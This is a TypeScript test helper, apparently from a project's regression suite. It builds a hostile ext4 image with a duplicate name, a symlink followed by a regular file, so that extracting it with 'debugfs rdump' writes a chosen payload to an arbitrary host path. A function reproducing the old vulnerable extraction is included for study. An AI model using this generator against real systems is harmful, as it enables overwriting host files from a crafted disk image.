import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

/**
 * A hostile ext4 (as a guest or an image author would write it): in `dir` (absolute, "/" for the
 * root), a symlink named NAME pointing at `hostTarget`, then a regular file also named NAME. ext4
 * tools never make two entries with one name, so the second is written as NAMF and its name
 * patched in the raw image (no metadata_csum, so the directory block needs no new checksum).
 * Extracting it with `debugfs rdump` creates the symlink, then opens the file's path through it:
 * `payload` lands at `hostTarget` on the host.
 */
export async function duplicateNameExt4(out: string, o: { hostTarget: string; payload: string; dir?: string; sizeMiB?: number }): Promise<void> {
  const work = await mkdtemp(join(tmpdir(), 'banger-hostile-'));
  try {
    const dir = o.dir ?? '/';
    const a = 'BANGERDUPLICATEA';
    const b = 'BANGERDUPLICATEB';
    await writeFile(join(work, 'payload'), o.payload);
    execFileSync('truncate', ['-s', `${o.sizeMiB ?? 8}M`, out]);
    execFileSync('mkfs.ext4', ['-q', '-F', '-O', '^metadata_csum', out], { stdio: 'ignore' });
    const cmds = [...(dir === '/' ? [] : [`mkdir ${dir}`]), `cd ${dir}`, `symlink ${a} ${o.hostTarget}`, `write ${join(work, 'payload')} ${b}`];
    await writeFile(join(work, 'cmds'), `${cmds.join('\n')}\n`);
    execFileSync('debugfs', ['-w', '-f', join(work, 'cmds'), out], { stdio: 'ignore' });
    const image = readFileSync(out);
    const at = image.indexOf(b);
    if (at < 0 || image.indexOf(b, at + 1) >= 0) throw new Error('hostile ext4: the second name is not unique in the image');
    image.write(a, at, 'latin1');
    writeFileSync(out, image);
  } finally {
    await rm(work, { recursive: true, force: true });
  }
}

/** What banger did before it stopped copying trees out of foreign filesystems: `debugfs rdump`. */
export function rdumpTheOldWay(image: string, guestDir: string, outParent: string): void {
  execFileSync('debugfs', ['-R', `rdump ${guestDir} ${outParent}`, image], { stdio: 'ignore' });
}
